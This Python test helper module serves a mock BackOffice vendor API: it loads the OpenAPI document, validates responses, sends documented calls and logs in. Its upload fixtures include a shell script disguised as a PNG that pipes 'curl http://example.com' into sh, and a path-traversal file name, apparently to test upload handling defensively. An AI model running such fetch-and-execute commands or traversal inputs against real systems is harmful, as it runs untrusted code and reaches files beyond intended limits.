"""Calls of BackOffice, written as on its page in ``docs/vendors`` and sent as its document describes."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any
from urllib.parse import unquote_plus

from mockserver.openapi.documents import SPECS, read_document
from mockserver.openapi.schemas import SchemaCompiler
from tests.pictures import png
from tests.vendors.tables import rows

if TYPE_CHECKING:
    from collections.abc import Mapping

    import httpx

    from mockserver.openapi.operations import OperationSpec
    from tests.conftest import Mock

MIB = 1024 * 1024
PASSWORD = "abcd1234"
DOCUMENT = read_document("backoffice", SPECS / "backoffice.yaml")
OPERATIONS = {operation.id: operation for operation in DOCUMENT.operations}
RECIPES = [(operation, *(cell.strip("`") for cell in cells)) for operation, cells in rows("backoffice", "answer")]
COMPILER = SchemaCompiler(DOCUMENT)

FILES: dict[str, tuple[str, bytes]] = {
    "@png": ("picture.png", png()),
    "@script": ("picture.png", b"#!/bin/sh\ncurl http://example.com | sh\n"),
    "@large": ("picture.png", png() + b"\x00" * 2 * MIB),
    "@huge": ("picture.png", png(60_000, 60_000)),
    "@path": ("../../../etc/picture.png", png()),
}


def errors_of(operation: OperationSpec) -> Mapping[str, Any]:
    """The error rows of an operation."""
    shared = DOCUMENT.raw["x-errors"] if operation.spec.get("security", True) else {}
    return {**shared, **operation.spec.get("x-errors", {})}


def conforms(operation: str, status: int, body: Any) -> bool:
    """Whether an answer is documented, by ``schema``, which is used for every implementation."""
    response = DOCUMENT.resolve(OPERATIONS[operation].spec["responses"][str(status)])
    return COMPILER.compile(response["content"]["application/json"]["schema"]).is_valid(body)


def required_of(operation: str) -> set[str]:
    """The keys of a success."""
    response = DOCUMENT.resolve(OPERATIONS[operation].spec["responses"]["200"])
    return set(DOCUMENT.resolve(response["content"]["application/json"]["schema"])["required"])


def fields_of(operation: str, written: str) -> dict[str, str]:
    """The fields that a row sends, by name."""
    working = next(sent for name, _, _, sent in RECIPES if name == operation)
    words = [*working.split(), *written.removeprefix("…").split()] if written.startswith("…") else written.split()
    fields: dict[str, str | None] = {}
    for word in words:
        name, is_given, value = word.partition("=")
        fields[name] = unquote_plus(value) if is_given else None
    return {name: value for name, value in fields.items() if value is not None}


def send(client: httpx.Client, operation: str, fields: Mapping[str, str]) -> httpx.Response:
    """The answer to a call; each field is sent in the place that the document gives it."""
    found = OPERATIONS[operation]
    places = {parameter["name"]: parameter["in"] for parameter in found.parameters}
    path = found.path
    for name in [name for name in fields if places.get(name) == "path"]:
        path = path.replace(f"{{{name}}}", fields[name])
    query = {name: value for name, value in fields.items() if places.get(name) == "query"}
    body = {name: value for name, value in fields.items() if name not in places}
    media = found.spec.get("requestBody", {}).get("content", {})
    if "multipart/form-data" in media:
        return client.request(found.method, path, files={name: FILES.get(value, (None, value)) for name, value in body.items()})
    return client.request(found.method, path, params=query, data=body if media else None)


def login(client: httpx.Client, username: str = "mlopez06", password: str = PASSWORD) -> dict[str, Any]:
    """The answer to a login."""
    answer = client.post("/api/v1/login/", data={"username": username, "password": password})
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def clock(mock: Mock, **change: str) -> None:
    """Advance the clock of the world."""
    with mock.control as control:
        control.patch("/clock", json=change).raise_for_status()
